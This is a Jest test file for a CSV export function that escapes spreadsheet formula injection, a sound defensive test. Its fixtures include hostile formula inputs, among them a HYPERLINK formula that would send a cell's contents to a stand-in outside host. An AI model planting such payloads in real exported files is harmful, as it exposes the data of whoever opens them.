import { describe, expect, test } from '@jest/globals';
import { csvLine } from './export-submissions';

describe('a line of CSV', () => {
  const cells: readonly [what: string, cell: string, written: string][] = [
    ['plain text', 'Budi', '"Budi"'],
    ['nothing', '', '""'],
    ['separators', 'a,b;c\td', '"a,b;c\td"'],
    ['quotes', 'a "b" c', '"a ""b"" c"'],
    ['line breaks', 'a\nb\r\nc', '"a\nb\r\nc"'],
    ['a formula', '=1+1', '"\'=1+1"'],
    [
      'a formula with a call',
      '=HYPERLINK("http://x.example?"&A1)',
      '"\'=HYPERLINK(""http://x.example?""&A1)"',
    ],
    ['a telephone number', '+62 812', '"\'+62 812"'],
    ['a negative number', '-5', '"\'-5"'],
    ['a handle', '@budi', '"\'@budi"'],
    ['a tab', '\t=1', '"\'\t\'=1"'],
    ['a carriage return', '\r=1', '"\'\r\'=1"'],
    ['a line feed', '\nx', '"\'\nx"'],
    ['blanks before a formula', '  =1', '"\'  =1"'],
    ['a byte order mark before a formula', '\u{feff}=1', '"\'\u{feff}=1"'],
    ['full-width operators', '＝1', '"\'＝1"'],
    ['operators further on', 'a=1', '"a=1"'],
    ['an apostrophe', "'=1", '"\'=1"'],
    ['a formula behind a semicolon', 'a;=1+1;b', '"a;\'=1+1;b"'],
    ['a formula behind a semicolon and blanks', 'a;  @b', '"a;\'  @b"'],
    ['a formula behind a semicolon and quotes', 'a;" "=1', '"a;\'"" ""=1"'],
    ['formulas behind line breaks', 'a\n=1\r\n-2\n\nc', '"a\n\'=1\r\n\'-2\n\nc"'],
    ['a formula behind a tab', 'a\t＋1', '"a\t\'＋1"'],
  ];
  test.each(cells)('holds %s', (_, cell, written) => {
    expect(csvLine([cell, 'x'])).toBe(`${written},"x"\r\n`);
  });

  test.each([';', '\n', '" ', ' '])('holds a million times %j', (sign) => {
    const cell = `;${sign.repeat(1_000_000)}x`;
    expect(csvLine([cell]) === `"${cell.replaceAll('"', '""')}"\r\n`).toBe(true);
  });
});
